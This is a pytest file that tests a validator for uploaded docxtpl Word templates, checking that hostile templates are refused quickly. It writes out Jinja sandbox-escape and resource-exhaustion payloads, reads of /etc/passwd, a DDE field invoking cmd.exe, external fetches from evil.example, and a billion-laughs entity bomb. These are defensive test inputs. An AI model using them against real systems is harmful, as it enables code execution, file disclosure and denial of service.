"""Whoever uploads a template of papers writes code for docxtpl: it must not reach out, run long, or grow."""

import io
import time

import docx
import pytest

from cases.documents.layout import built_in
from cases.documents.rendering import WrongTemplate, check
from tests.cases.test_document_templates import template, with_part

SECONDS = 5  # on a busy machine; each is refused before it runs
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "mark",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ ''['__class__']['__mro__'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ self.__init__.__globals__ }}",
        "{{ org.format.__self__ }}",
        "{{ (org, ) | map('upper') | list }}",
        "{{ 9 ** 9 ** 9 ** 9 }}",
        "{{ org * 10 ** 9 }}",
        "{{ 'a' * 999999999 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ '{:>999999999}'.format(1) }}",
        "{{ org.ljust(999999999) }}",
        "{{ org|center(999999999) }}",
        "{{ org|indent(999999999, true) }}",
        "{{ [1]|batch(999999999, 'x')|list }}",
        "{{ lipsum(999999) }}",
        "{% for a in range(10 ** 9) %}x{% endfor %}",
        "{% for a in title %}{% for b in title %}{% for c in title %}{% for d in title %}x"
        "{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "{% for a in title recursive %}{{ loop(title) }}{% endfor %}",
        "{% set x = org ~ org %}{{ x }}",
        "{{ org ~ org }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% include 'settings.py' %}",
        "{% extends '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% from 'os' import path %}",
        "{% do org.upper() %}",
        "{{ paragraphs|tojson }}",
        "{{ paragraphs.append('x') }}",
        "{% if " + "(" * 300 + "org" + ")" * 300 + " %}x{% endif %}",
        "{% if title > 1 %}x{% endif %}",
        "{{ '" + "长" * 200 + "' }}",
    ],
)
def test_a_template_that_would_do_more_than_fill_in_words_is_refused_at_once(mark: str) -> None:
    begun = time.monotonic()

    with pytest.raises(WrongTemplate):
        check(template("{{ paragraphs }}", mark))

    assert time.monotonic() - begun < SECONDS


def test_code_hidden_in_the_properties_header_or_notes_is_refused_too() -> None:
    made, file = docx.Document(), io.BytesIO()
    made.add_paragraph("{{ paragraphs }}")
    made.core_properties.author = "{{ 9 ** 9 ** 9 }}"
    made.save(file)
    headed, other = docx.Document(), io.BytesIO()
    headed.add_paragraph("{{ paragraphs }}")
    headed.sections[0].header.paragraphs[0].text = "{{ org * 10 ** 9 }}"
    headed.save(other)

    for content in (file.getvalue(), other.getvalue()):
        with pytest.raises(WrongTemplate, match="不能用其他语句和运算"):
            check(content)


def test_what_comes_out_has_a_largest_size() -> None:
    """Words that stand there a hundred thousand times are plain, and still too much."""
    with pytest.raises(WrongTemplate, match="过大"):
        check(template("{% for p in paragraphs %}" + "{{ paragraphs }}" * 60_000 + "{% endfor %}"))


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "subDocument", "frame"])
def test_a_template_that_fetches_from_elsewhere_is_refused(kind: str) -> None:
    with pytest.raises(WrongTemplate, match="外部"):
        check(with_part(template(), "word/_rels/settings.xml.rels", RELS.format(kind=kind).encode()))


@pytest.mark.parametrize(
    "field",
    [
        '<w:instrText>INCLUDEPICTURE "http://evil.example/x.png"</w:instrText>',
        '<w:instrText xml:space="preserve"> DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>',
        '<w:fldSimple w:instr=" INCLUDETEXT file:///etc/passwd "/>',
    ],
)
def test_a_field_that_fetches_from_elsewhere_is_refused(field: str) -> None:
    with pytest.raises(WrongTemplate, match="外部"):
        check(with_part(template(), "word/extra.xml", f"<w:x>{field}</w:x>".encode()))


def test_a_link_to_click_is_none_of_these() -> None:
    assert check(with_part(template(), "word/_rels/footnotes.xml.rels", RELS.format(kind="hyperlink").encode()))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_unopened(encoding: str) -> None:
    laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'

    with pytest.raises(WrongTemplate, match="内部结构"):
        check(with_part(template(), "word/footnotes.xml", laughs.encode(encoding)))


def test_what_provinces_write_still_serves() -> None:
    assert check(built_in())
    assert check(
        template(
            "{%p for paragraph in paragraphs %}",
            "{{ loop.index }}. {{ paragraph|trim }}",
            "{%p endfor %}",
            "{%p for table in tables %}",
            "{%p for row in table.rows %}",
            "{{ row|join('、') }}{% if not loop.last %}；{% endif %}",
            "{%p endfor %}",
            "{%p endfor %}",
            "{{ copy_to or '无' }}{{ '（' if copy_to else '' }}",
        )
    )
